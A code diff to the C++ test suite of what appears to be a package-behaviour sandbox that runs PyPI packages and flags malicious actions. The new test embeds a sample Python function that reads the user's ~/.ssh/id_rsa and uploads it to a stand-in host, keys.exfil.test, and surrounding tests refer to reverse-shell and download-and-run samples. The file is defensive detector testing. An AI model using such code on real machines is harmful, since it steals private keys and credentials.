@@ -39,6 +39,15 @@ std::string setup_py(const std::string& name, const std::string& before, const s
          "']" + extra + ")\n";
 }
 
+// The first phase record named `name` (every PyPI detonation has prepare, install, then an
+// import and an execute per module).
+json phase_named(const json& trace, const std::string& name) {
+  for (const json& p : trace.at("phases")) {
+    if (p.at("phase") == name) return p;
+  }
+  return json::object();
+}
+
 // Events of `kind` in `phase`.
 std::vector<json> events(const json& trace, const std::string& kind, const std::string& phase) {
   std::vector<json> out;
@@ -208,9 +217,7 @@ TEST_F(BehaviorReal, an_import_that_execs_decoded_text_opening_a_shell_on_a_conn
   EXPECT_EQ(streams[0].at("head").get<std::string>().rfind("hello from ", 0), 0U);
   // The shell waited on the connection for commands; the sink, which had none, ended the
   // idle connection, and the shell read its end: the import ended before its bound.
-  const json& phase = t.at("phases").back();
-  EXPECT_EQ(phase.at("phase"), "import");
-  EXPECT_EQ(phase.at("timed_out"), false);
+  EXPECT_EQ(phase_named(t, "import").value("timed_out", true), false);
 }
 
 TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_running_is_killed_and_said) {
@@ -221,7 +228,7 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
   json t =
       detonate("pypi", sdist("daemon", {file("setup.py", setup_py("daemon", "")), file("daemon/__init__.py", init)}));
   ASSERT_TRUE(t.contains("phases"));
-  EXPECT_EQ(t.at("phases").back().at("timed_out"), false);
+  EXPECT_EQ(phase_named(t, "import").value("timed_out", true), false);
   auto left = events(t, "left-running", "import");
   ASSERT_EQ(left.size(), 1U) << t.dump(1);
   EXPECT_EQ(left[0].at("count"), 1);
@@ -231,8 +238,30 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
                     sdist("forever", {file("setup.py", setup_py("forever", "")), file("forever/__init__.py", forever)}),
                     "1500");
   ASSERT_TRUE(u.contains("phases"));
-  EXPECT_EQ(u.at("phases").back().at("phase"), "import");
-  EXPECT_EQ(u.at("phases").back().at("timed_out"), true);
+  EXPECT_EQ(phase_named(u, "import").value("timed_out", false), true);
+}
+
+// PyPI's execute phase: a function nothing calls at import, called with stand-in arguments,
+// is seen doing what it does — and what it does weighs a step less than at install or import,
+// but a decoy's canary sent is still a block.
+TEST_F(BehaviorReal, a_function_that_sends_the_decoy_key_when_called_is_seen_in_the_execute_phase) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string init =
+      "import os, urllib.request\n"
+      "def upload(target):\n"
+      "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+      "    urllib.request.urlopen('http://keys.exfil.test/u', data=key.encode(), timeout=5)\n";
+  const std::string archive = sdist(
+      "onlywhencalled", {file("setup.py", setup_py("onlywhencalled", "")), file("onlywhencalled/__init__.py", init)});
+  json t = detonate("pypi", archive);
+  ASSERT_TRUE(t.contains("events"));
+  EXPECT_TRUE(events(t, "stream", "import").empty()) << "nothing is sent at import";
+  auto sent = events(t, "stream", "execute");
+  ASSERT_EQ(sent.size(), 1U) << t.dump(1);
+  EXPECT_EQ(sent[0].value("canary", false), true);
+  auto got = findings(core::PackageKind::kPypi, archive);
+  EXPECT_EQ(got["behavior-canary-sent"], core::Severity::kHigh);
+  EXPECT_EQ(got["behavior-token-store-read"], core::Severity::kMedium);
 }
 
 TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_started_from_a_written_file) {
